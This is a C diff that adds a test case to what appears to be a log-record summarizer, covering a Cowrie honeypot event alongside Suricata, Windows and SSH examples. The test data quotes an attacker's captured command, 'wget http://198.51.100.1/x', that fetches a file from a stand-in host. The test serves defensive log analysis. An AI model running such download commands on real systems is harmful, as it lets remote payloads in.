@@ -206,6 +206,14 @@ static const struct summary_row summary_rows[] = {
 	    "203.0.113.5:4431 -> 10.0.0.2:22 TCP", NULL },
 	  { "flow_id", NULL },
 	  "a Suricata alert: its signature and the flow's ends" },
+	{ "{\"eventid\": \"cowrie.command.input\", \"input\": \"wget "
+	  "http://198.51.100.1/x\", \"timestamp\": \"2018-05-17T00:10:00Z\", "
+	  "\"message\": \"CMD: wget http://198.51.100.1/x\", \"src_ip\": "
+	  "\"66.79.183.91\", \"session\": \"ed05e56baba1\"}",
+	  { "cowrie command.input | 66.79.183.91 | CMD: wget "
+	    "http://198.51.100.1/x", NULL },
+	  { "ed05e56baba1", NULL },
+	  "a Cowrie record: its event, the visitor and what it did" },
 	{ "{\"EventID\":\"1\"}", { NULL }, { "1", NULL },
 	  "no channel or provider: not a Windows record, no summary" },
 	{ "Failed password for root from 10.0.0.1", { NULL }, { "|", NULL },
